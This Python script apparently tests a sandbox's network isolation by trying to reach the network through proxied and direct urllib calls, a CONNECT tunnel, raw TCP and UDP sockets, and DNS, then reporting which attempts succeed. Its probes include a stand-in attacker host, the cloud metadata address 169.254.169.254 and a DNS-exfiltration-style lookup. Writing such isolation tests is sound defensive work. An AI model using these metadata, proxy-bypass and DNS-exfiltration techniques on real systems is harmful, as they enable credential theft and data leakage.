"""What a Python tool does: urllib with the proxy variables, an http.client CONNECT tunnel,
urllib ignoring the proxy, and raw sockets. Prints one JSON object of outcomes."""
import errno
import http.client
import json
import os
import socket
import sys
import urllib.error
import urllib.parse
import urllib.request

host, port, other = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
proxy = os.environ.get("http_proxy", "")
res = {}


def fetch(opener, url):
    try:
        with opener.open(url, timeout=20) as r:
            return {"status": r.status, "body": r.read().decode()}
    except urllib.error.HTTPError as e:
        return {"status": e.code, "body": e.read().decode()}
    except Exception as e:  # noqa: BLE001
        return {"error": type(e).__name__, "detail": str(e)}


env_opener = urllib.request.build_opener()  # ProxyHandler from the environment
direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))

res["env_allowed"] = fetch(env_opener, f"http://{host}:{port}/py-env")
res["env_unlisted"] = fetch(env_opener, f"http://evil.example:{port}/")
res["env_other_port"] = fetch(env_opener, f"http://{host}:{other}/")
res["direct_allowed"] = fetch(direct, f"http://{host}:{port}/py-direct")

# CONNECT through the proxy door, plain HTTP inside the tunnel.
try:
    pu = urllib.parse.urlsplit(proxy)
    c = http.client.HTTPConnection(pu.hostname, pu.port, timeout=20)
    c.set_tunnel(host, port)
    c.request("GET", "/py-tunnel")
    r = c.getresponse()
    res["tunnel_allowed"] = {"status": r.status, "body": r.read().decode()}
except Exception as e:  # noqa: BLE001
    res["tunnel_allowed"] = {"error": type(e).__name__, "detail": str(e)}
try:
    c = http.client.HTTPConnection(pu.hostname, pu.port, timeout=20)
    c.set_tunnel("169.254.169.254", 80)
    c.request("GET", "/latest/meta-data/")
    res["tunnel_metadata"] = {"status": c.getresponse().status}
except OSError as e:
    res["tunnel_metadata"] = {"error": type(e).__name__, "detail": str(e)}


def connect(addr, p):
    try:
        s = socket.create_connection((addr, p), timeout=5)
        s.close()
        return {"connected": True}
    except OSError as e:
        return {"errno": errno.errorcode.get(e.errno, str(e.errno)) if e.errno else None,
                "error": type(e).__name__}


res["raw_metadata"] = connect("169.254.169.254", 80)
res["raw_private"] = connect("10.0.0.1", 80)
res["raw_public"] = connect("93.184.216.34", 443)

# UDP DNS straight to a public resolver: no route out of the sandbox.
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"\x00" * 12, ("8.8.8.8", 53))
    res["raw_udp"] = {"sent": True}
except OSError as e:
    res["raw_udp"] = {"errno": errno.errorcode.get(e.errno, str(e.errno))}

try:
    socket.getaddrinfo("exfil-secret-data.evil.example", 80, socket.AF_INET)
    res["resolve_unlisted"] = {"resolved": True}
except socket.gaierror as e:
    res["resolve_unlisted"] = {"gaierror": e.errno}

print(json.dumps(res))
